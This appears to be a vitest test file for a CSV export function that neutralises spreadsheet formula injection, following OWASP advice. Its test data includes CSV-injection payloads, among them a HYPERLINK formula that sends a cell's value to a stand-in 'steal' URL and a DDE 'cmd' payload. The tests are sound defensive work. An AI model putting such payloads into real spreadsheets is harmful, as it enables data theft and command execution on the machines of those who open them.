import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutraliseFormulaText, restoreNeutralisedText, toSpreadsheetCsv } from '../../shared/domain/spreadsheet-csv';

/*
 * Source: OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): a cell that
 * begins with = + - @ tab (0x09) or carriage return (0x0D) is read as a formula by spreadsheet
 * programs; the advice is to prefix such cells with a single quote and to wrap cells in double
 * quotes. OWASP ASVS 4.0.3 requirement 5.3.10 / ASVS 5.0 1.2.10 says the same for '=', '+', '-',
 * '@', tab and null. Cells holding line breaks are treated the same way here (a reader that
 * splits a cell at its line breaks would otherwise meet a formula on the next line).
 */

const NASTY = [
  '=1+1',
  '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click")',
  '+1',
  '-1+2',
  '-',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'Plain start\n=cmd|\' /C calc\'!A0',
  'Two lines\r\n+1',
  "'=already quoted",
  "'",
  'a, b; "quoted" c',
  '=',
];
/** What a spreadsheet would take as the start of a formula. */
const FORMULA = /^[=+\-@\t\r]/;

const parse = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;

describe('toSpreadsheetCsv (the one CSV writer)', () => {
  it('neutralises every nasty text cell: no cell, and no line inside a cell, starts a formula', () => {
    const csv = toSpreadsheetCsv([{ name: 'name', kind: 'text' }], NASTY.map((text) => [text]));
    const cells = parse(csv).slice(1).map((row) => row[0]!);
    expect(cells).toHaveLength(NASTY.length);
    for (const cell of cells) {
      expect(FORMULA.test(cell), JSON.stringify(cell)).toBe(false);
      for (const line of cell.split(/\r\n|\r|\n/)) expect(FORMULA.test(line), JSON.stringify(cell)).toBe(false);
    }
    // The usual escape: one apostrophe in front, the rest as typed; quoted per RFC 4180.
    expect(csv).toContain(`"'=HYPERLINK(""http://example.invalid/steal?d=""&A1,""Click"")"`);
    expect(cells).toContain("'-1+2");
    expect(cells).toContain("'\t=1+1");
    expect(cells).toContain("'Plain start\n'=cmd|' /C calc'!A0");
    // Nothing to neutralise: left as typed.
    expect(cells).toContain('a, b; "quoted" c');
  });

  it('reads every neutralised cell back exactly (restoreNeutralisedText), for any text', () => {
    for (const text of NASTY) expect(restoreNeutralisedText(neutraliseFormulaText(text))).toBe(text);
    const nastyChar = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", '"', ',', 'a', ' ', '1');
    fc.assert(
      fc.property(fc.array(nastyChar, { maxLength: 12 }).map((cs) => cs.join('')), fc.string(), (nasty, any) => {
        for (const text of [nasty, any, nasty + any]) {
          const cell = neutraliseFormulaText(text);
          expect(restoreNeutralisedText(cell)).toBe(text);
          expect(FORMULA.test(cell)).toBe(false);
          for (const line of cell.split(/\r\n|\r|\n/).slice(1)) expect(/^[=+\-@\t]/.test(line)).toBe(false);
        }
      }),
      { numRuns: 2000 },
    );
  });

  it('keeps numbers as numbers by column type: a negative longitude is a bare number, the same text is neutralised', () => {
    const csv = toSpreadsheetCsv(
      [
        { name: 'gridLon', kind: 'number' },
        { name: 'note', kind: 'text' },
        { name: 'pinched', kind: 'boolean' },
      ],
      [
        [-73.775, '-73.775', true],
        [null, null, null],
      ],
    );
    const lines = csv.split('\r\n');
    expect(lines[1]).toBe(`-73.775,"'-73.775",true`);
    expect(lines[2]).toBe(',"",');
    // Read as a spreadsheet-like reader would (papaparse's dynamic typing): the number is a number.
    const typed = Papa.parse<Record<string, unknown>>(csv, { header: true, dynamicTyping: true, skipEmptyLines: true }).data;
    expect(typed[0]).toEqual({ gridLon: -73.775, note: "'-73.775", pinched: true });
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('refuses a value that does not fit its numeric column (a programming error, never written as text)', () => {
    expect(() => toSpreadsheetCsv([{ name: 'lat', kind: 'number' }], [['=1+1']])).toThrow(/lat is numeric/);
    expect(() => toSpreadsheetCsv([{ name: 'lat', kind: 'number' }], [[Number.NaN]])).toThrow(/lat is numeric/);
  });
});
